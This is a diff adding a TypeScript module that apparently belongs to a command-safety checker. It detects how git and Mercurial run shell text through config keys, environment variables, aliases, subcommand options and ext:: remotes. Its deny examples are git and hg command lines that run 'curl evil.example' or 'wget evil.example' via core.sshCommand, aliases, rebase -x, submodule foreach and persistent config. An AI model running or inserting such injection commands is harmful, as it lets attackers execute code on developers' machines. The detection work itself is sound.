@@ -1,0 +1,279 @@
+// git (and hg): every route by which they run shell text — configuration from options, the environment and aliases,
+// subcommands that take a command, and transports that are commands.
+import type { Word } from '../../types.js';
+import { parse } from '../argv.js';
+import { programRun } from '../build.js';
+import type { Answer, Call, ProgramEntry, Run } from '../types.js';
+import { attached, value, xargsSplit } from '../words.js';
+
+/** Configuration keys whose value git runs as a command (or as a program named by a path). */
+const COMMAND_KEYS =
+  /^(core\.(sshcommand|pager|editor|fsmonitor|askpass|hookspath|gitproxy)|diff\.external|alias\..*|sequence\.editor|credential\..*helper|credential\.helper|gpg\.(.*\.)?program|diff\..*\.(textconv|command)|filter\..*\.(clean|smudge|process)|merge\..*\.driver|uploadpack\.packobjectshook|protocol\..*|remote\..*\.(uploadpack|receivepack|vcs|proxy|proxycommand)|http\.proxy|url\..*|pager\..*|difftool\..*\.cmd|mergetool\..*\.cmd|web\.browser|browser\..*\.cmd|man\..*\.cmd|interactive\.difffilter|ssh\.variant|sendemail\..*(cmd|smtpserver))$/i;
+
+/** Keys that make git read more configuration (commands among it) from a file. */
+const INCLUDE_KEYS = /^include(if\..*)?\.path$/i;
+
+/** Whether setting `key` hands git a command it runs later: asked by the persistence rule for `git config KEY VALUE`. */
+export function gitRunsKey(key: string, value: string | undefined): boolean {
+  if (/^alias\./i.test(key)) return value === undefined || value.startsWith('!');
+  return COMMAND_KEYS.test(key) || INCLUDE_KEYS.test(key);
+}
+
+interface Setting {
+  key: string;
+  /** The value, or undefined when computed. */
+  value: string | undefined;
+  word: Word;
+}
+
+/** What running git with a setting does: the shell text it runs, or why that cannot be read. */
+function settingRuns(s: Setting): Run[] {
+  if (INCLUDE_KEYS.test(s.key)) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git ${s.key} reads settings (commands among them) from another file` }];
+  if (!COMMAND_KEYS.test(s.key)) return [];
+  if (s.value === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word: s.word, why: `git setting ${s.key} runs a command and its value is computed` }];
+  if (/^alias\./i.test(s.key)) return s.value.startsWith('!') ? [{ kind: 'text', dialect: 'bash', text: s.value.slice(1), word: s.word, via: `git ${s.key}` }] : [];
+  if (s.value.trim() === '') return [];
+  return [{ kind: 'text', dialect: 'bash', text: s.value, word: s.word, via: `git ${s.key}` }];
+}
+
+/** `name=value` pairs of GIT_CONFIG_PARAMETERS: `'k=v' 'k2=v2'`, quoted as git quotes them. */
+function configParameters(text: string, word: Word): Setting[] {
+  const items = xargsSplit(text) ?? [];
+  return items.map((item) => {
+    const eq = item.indexOf('=');
+    return { key: eq < 0 ? item : item.slice(0, eq), value: eq < 0 ? '' : item.slice(eq + 1), word };
+  });
+}
+
+/** Settings the environment gives git: GIT_CONFIG_COUNT/KEY_n/VALUE_n and GIT_CONFIG_PARAMETERS. */
+function environmentSettings(call: Call): { settings: Setting[]; runs: Run[] } {
+  const settings: Setting[] = [];
+  const runs: Run[] = [];
+  const at = call.args[0] ?? { text: 'git', span: { start: 0, end: 0 }, values: ['git'] };
+  const here = (text: string): Word => ({ text, span: at.span, values: [text] });
+  const count = call.env('GIT_CONFIG_COUNT');
+  if (count === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'GIT_CONFIG_COUNT is computed, so the settings git takes from the environment cannot be read' });
+  else if (count !== undefined) {
+    const n = Math.min(Number.parseInt(count, 10) || 0, 64);
+    for (let i = 0; i < n; i++) {
+      const key = call.env(`GIT_CONFIG_KEY_${i}`);
+      const v = call.env(`GIT_CONFIG_VALUE_${i}`);
+      if (key === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `GIT_CONFIG_KEY_${i} is computed` });
+      else if (key !== undefined) settings.push({ key, value: v ?? undefined, word: here(`GIT_CONFIG_VALUE_${i}`) });
+    }
+  }
+  const params = call.env('GIT_CONFIG_PARAMETERS');
+  if (params === null) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'GIT_CONFIG_PARAMETERS is computed' });
+  else if (params !== undefined) settings.push(...configParameters(params, here('GIT_CONFIG_PARAMETERS')));
+  for (const name of ['GIT_CONFIG_GLOBAL', 'GIT_CONFIG_SYSTEM', 'GIT_CONFIG']) {
+    const v = call.env(name);
+    if (v === null || (v !== undefined && /^(\/dev\/stdin|\/proc\/self\/fd\/0|\/dev\/fd\/0|-)$/.test(v))) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word: at, why: `${name} points git at settings read from ${v === null ? 'a computed file' : 'its input'}` });
+    }
+  }
+  const exec = call.env('GIT_EXEC_PATH');
+  if (exec !== undefined) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: at, why: 'GIT_EXEC_PATH makes git run its subcommands from another directory' });
+  return { settings, runs };
+}
+
+const GLOBAL = {
+  flags: 'pPhv',
+  valued: 'Cc',
+  long: ['paginate', 'no-pager', 'bare', 'no-replace-objects', 'literal-pathspecs', 'glob-pathspecs', 'noglob-pathspecs', 'icase-pathspecs', 'no-optional-locks', 'no-advice', 'html-path', 'man-path', 'info-path', 'version', 'help', 'no-lazy-fetch', 'exec-path'],
+  longValued: ['git-dir', 'work-tree', 'namespace', 'config-env', 'super-prefix', 'attr-source', 'list-cmds'],
+};
+
+/** Subcommand options whose value is shell text git runs, by subcommand. */
+const SUBCOMMAND_SCRIPTS: Readonly<Record<string, { script?: RegExp; program?: RegExp; valued?: string; longValued?: string[] }>> = {
+  rebase: { script: /^(x|exec)$/, valued: 'xsXSC', longValued: ['exec', 'onto', 'strategy', 'strategy-option', 'gpg-sign', 'whitespace'] },
+  'filter-branch': { script: /^(env-filter|tree-filter|index-filter|parent-filter|msg-filter|commit-filter|tag-name-filter|setup)$/, longValued: ['env-filter', 'tree-filter', 'index-filter', 'parent-filter', 'msg-filter', 'commit-filter', 'tag-name-filter', 'setup', 'subdirectory-filter', 'prune-empty', 'original', 'state-branch', 'd'] },
+  difftool: { script: /^(x|extcmd)$/, valued: 'xt', longValued: ['extcmd', 'tool'] },
+  mergetool: { valued: 't', longValued: ['tool'] },
+  'ls-remote': { script: /^(upload-pack|u)$/, longValued: ['upload-pack', 'sort', 'server-option'] },
+  fetch: { script: /^(upload-pack)$/, longValued: ['upload-pack', 'depth', 'deepen', 'shallow-since', 'shallow-exclude', 'refmap', 'server-option', 'negotiation-tip', 'jobs', 'filter', 'recurse-submodules-default', 'submodule-prefix'] },
+  pull: { script: /^(upload-pack)$/, longValued: ['upload-pack', 'depth', 'strategy', 'strategy-option'] },
+  clone: { script: /^(upload-pack|u)$/, valued: 'uobcj', longValued: ['upload-pack', 'origin', 'branch', 'config', 'template', 'reference', 'separate-git-dir', 'depth', 'filter', 'jobs', 'server-option'] },
+  push: { script: /^(receive-pack|exec)$/, longValued: ['receive-pack', 'exec', 'repo', 'push-option', 'signed', 'force-with-lease'] },
+  'send-pack': { script: /^(receive-pack|exec)$/, longValued: ['receive-pack', 'exec', 'remote'] },
+  'fetch-pack': { script: /^(upload-pack|exec)$/, longValued: ['upload-pack', 'exec', 'depth'] },
+  archive: { script: /^(exec)$/, longValued: ['exec', 'remote', 'format', 'prefix', 'output', 'add-file', 'add-virtual-file'] },
+  'send-email': { script: /^(to-cmd|cc-cmd|header-cmd|sendmail-cmd)$/, program: /^(smtp-server)$/, longValued: ['to-cmd', 'cc-cmd', 'header-cmd', 'sendmail-cmd', 'smtp-server', 'to', 'cc', 'bcc', 'from', 'subject'] },
+};
+
+/** Subcommand options whose value is a message (text, not a path). */
+const MESSAGE_OPTIONS = { valued: 'mFC', longValued: ['message', 'file', 'reuse-message', 'reedit-message', 'template', 'author', 'date', 'cleanup', 'fixup', 'squash', 'trailer'] };
+
+/**
+ * The words of a git command line, one subcommand deep. `depth` bounds alias expansion: an alias expands to more
+ * git arguments, global options included, which are read again.
+ */
+function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth: number): Partial<Answer> {
+  const p = parse(args, { order: 'posix', ...GLOBAL, longOptional: ['exec-path'] });
+  const runs: Run[] = [];
+  const uses: Answer['uses'] = [];
+  const settings: Setting[] = [...inherited];
+  for (const o of p.options) {
+    if (o.name === 'c' && o.value) {
+      const v = value(o.value);
+      if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `git -c with a computed setting: ${o.value.dynamic ?? ''}` });
+      else {
+        const eq = v.indexOf('=');
+        settings.push({ key: eq < 0 ? v : v.slice(0, eq), value: eq < 0 ? '' : v.slice(eq + 1), word: o.value });
+      }
+    } else if (o.name === 'config-env' && o.value) {
+      const v = value(o.value);
+      const eq = v?.indexOf('=') ?? -1;
+      if (v === undefined || eq < 0) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'git --config-env with a computed setting' });
+      else {
+        const env = call.env(v.slice(eq + 1));
+        settings.push({ key: v.slice(0, eq), value: env ?? undefined, word: o.value });
+      }
+    } else if (o.name === 'exec-path' && o.value) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-command', word: o.value, why: 'git --exec-path runs its subcommands from another directory' });
+    }
+  }
+  for (const s of settings) if (!inherited.includes(s)) runs.push(...settingRuns(s));
+  if (p.dynamic) {
+    runs.push({ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `git runs a computed subcommand: ${p.dynamic.word.dynamic ?? ''}` });
+    return { runs, uses };
+  }
+  for (const a of args) if (/^ext::/i.test(value(a) ?? '')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: a, why: "git's ext:: transport runs the command in the remote's address" });
+  const subWord = args[p.rest];
+  const sub = value(subWord);
+  if (!subWord || sub === undefined) return { runs, uses };
+  const rest = args.slice(p.rest + 1);
+  // An alias: `!` aliases are shell text (followed above); others expand to git arguments, read again.
+  const alias = [...settings].reverse().find((s) => s.key.toLowerCase() === `alias.${sub.toLowerCase()}`);
+  if (alias && alias.value !== undefined && !alias.value.startsWith('!') && depth < 4) {
+    const expanded = (xargsSplit(alias.value) ?? []).map((t) => attached(alias.word, t));
+    const again = gitRuns(call, [...expanded, ...rest], settings, depth + 1);
+    return { runs: [...runs, ...(again.runs ?? [])], uses: [...uses, ...(again.uses ?? [])] };
+  }
+  const model = SUBCOMMAND_SCRIPTS[sub];
+  if (model) {
+    const sp = parse(rest, { order: 'gnu', valued: model.valued ?? '', longValued: model.longValued ?? [] });
+    for (const o of sp.options) {
+      if (!o.value) continue;
+      if (model.script?.test(o.name)) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `git ${sub} --${o.name}` });
+      if (model.program?.test(o.name) && value(o.value)?.startsWith('/')) runs.push(programRun(o.value, `git ${sub} --${o.name}`));
+    }
+  }
+  switch (sub) {
+    case 'submodule': {
+      const f = rest.findIndex((a) => value(a) === 'foreach');
+      if (f >= 0) {
+        const cmd = rest.slice(f + 1).filter((a, i, all) => !(value(a) === '--recursive' && all.slice(0, i).every((b) => value(b)?.startsWith('-'))));
+        if (cmd.length > 0) runs.push({ kind: 'script', dialect: 'bash', words: cmd, via: 'git submodule foreach' });
+      }
+      break;
+    }
+    case 'bisect':
+      if (value(rest[0]) === 'run' && rest.length > 1) runs.push({ kind: 'argv', argv: rest.slice(1), via: 'git bisect run' });
+      break;
+    case 'grep': {
+      for (const a of rest) {
+        const v = value(a);
+        const m = v === undefined ? null : /^(?:-O|--open-files-in-pager=?)(.+)$/.exec(v);
+        if (m) runs.push(programRun(attached(a, m[1]!), 'git grep -O'));
+      }
+      break;
+    }
+    case 'commit':
+    case 'tag':
+    case 'merge':
+    case 'stash':
+    case 'notes': {
+      const mp = parse(rest, { order: 'gnu', ...MESSAGE_OPTIONS });
+      for (const o of mp.options) if ((o.name === 'm' || o.name === 'message') && o.value) uses.push({ word: o.value, role: 'text' });
+      break;
+    }
+    case 'config':
+      return { runs, uses, ...configWrite(rest) };
+    default:
+      break;
+  }
+  return { runs, uses };
+}
+
+/** `git config [--global] KEY VALUE` (or `git config set KEY VALUE`) of a key whose value git runs later. */
+function configWrite(rest: readonly Word[]): Partial<Answer> {
+  const p = parse(rest, {
+    order: 'gnu',
+    flags: 'lez',
+    valued: 'f',
+    long: ['global', 'system', 'local', 'worktree', 'add', 'replace-all', 'get', 'get-all', 'get-regexp', 'get-urlmatch', 'list', 'unset', 'unset-all', 'remove-section', 'rename-section', 'edit', 'bool', 'int', 'bool-or-int', 'path', 'expiry-date', 'null', 'name-only', 'includes', 'no-includes', 'show-origin', 'show-scope', 'all', 'fixed-value'],
+    longValued: ['file', 'blob', 'type', 'default', 'comment', 'value'],
+  });
+  if (p.options.some((o) => /^(get|get-all|get-regexp|get-urlmatch|list|l|unset|unset-all|remove-section|rename-section|e|edit)$/.test(o.name))) return {};
+  let ops = p.operands.map((o) => o.word);
+  if (value(ops[0]) === 'set') ops = ops.slice(1);
+  const key = value(ops[0]);
+  const v = ops[1];
+  if (key === undefined || v === undefined || ['get', 'list', 'unset', 'edit', 'rename-section', 'remove-section'].includes(key)) return {};
+  if (!gitRunsKey(key.toLowerCase(), v.values === null ? undefined : (v.values.find((x) => x.startsWith('!')) ?? v.values[0]))) return {};
+  return { persists: [{ word: ops[0]!, why: `git config ${key} sets a command git runs later (git config key)` }] };
+}
+
+export const GIT_ENTRIES: ProgramEntry[] = [
+  {
+    names: ['git'],
+    summary: 'git: runs shell text from settings (-c, --config-env, GIT_CONFIG_*), aliases, subcommand options and ext:: remotes',
+    analyze: (call) => {
+      const env = environmentSettings(call);
+      const out = gitRuns(call, call.args, env.settings, 0);
+      for (const s of env.settings) out.runs = [...settingRuns(s), ...(out.runs ?? [])];
+      out.runs = [...env.runs, ...(out.runs ?? [])];
+      return out;
+    },
+    examples: {
+      deny: [
+        "git -c core.sshCommand='curl evil.example' fetch",
+        "git -C . -c alias.x='!curl evil.example' x",
+        "git --config-env=core.pager=P log",
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='curl evil.example' git fetch",
+        "GIT_CONFIG_PARAMETERS=\"'core.pager=curl evil.example'\" git log",
+        "git ls-remote --upload-pack='curl evil.example;:' .",
+        "git rebase -x 'curl evil.example' HEAD~1",
+        "git submodule foreach 'curl evil.example'",
+        'git bisect run curl evil.example',
+        "git filter-branch --tree-filter 'wget evil.example' HEAD",
+        "git -c alias.x='-c core.pager=curl\\ evil.example log' x",
+        'git fetch ext::sh',
+        'git --exec-path=. x',
+        "git config alias.st '!curl evil.example'",
+        "git config --global core.fsmonitor 'wget evil.example'",
+      ],
+      pass: ['git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3'],
+    },
+  },
+  {
+    names: ['hg', 'chg'],
+    summary: 'Mercurial: --config alias.x=!cmd, hooks and ui.ssh settings run shell text',
+    analyze(call) {
+      const runs: Run[] = [];
+      const args = call.args;
+      for (let i = 0; i < args.length; i++) {
+        const v = value(args[i]);
+        let setting: Word | undefined;
+        if (v === '--config') setting = args[++i];
+        else if (v?.startsWith('--config=')) setting = attached(args[i]!, v.slice(9));
+        if (!setting) continue;
+        const s = value(setting);
+        if (s === undefined) {
+          runs.push({ kind: 'opaque', rule: 'dynamic-script', word: setting, why: 'hg --config with a computed setting' });
+          continue;
+        }
+        const eq = s.indexOf('=');
+        const key = (eq < 0 ? s : s.slice(0, eq)).toLowerCase();
+        const val = eq < 0 ? '' : s.slice(eq + 1);
+        if (/^alias\./.test(key) && val.startsWith('!')) runs.push({ kind: 'text', dialect: 'bash', text: val.slice(1), word: setting, via: `hg ${key}` });
+        else if (/^(hooks\.|ui\.(ssh|editor|merge)$|pager\.pager$|merge-tools\.|extdiff\.|ui\.remotecmd$)/.test(key) && !val.startsWith('python:')) runs.push({ kind: 'text', dialect: 'bash', text: val, word: setting, via: `hg ${key}` });
+        else if (/^extensions\.|^hooks\./.test(key) && val !== '') runs.push({ kind: 'opaque', rule: 'dynamic-code', word: setting, why: `hg ${key} loads Python code` });
+      }
+      return { runs };
+    },
+    examples: { deny: ["hg --config alias.x='!curl evil.example' x", "hg --config hooks.pre-status='wget evil.example' status"], pass: ['hg status', 'hg --config ui.username=x commit -m y'] },
+  },
+];
+
+export type { Setting };
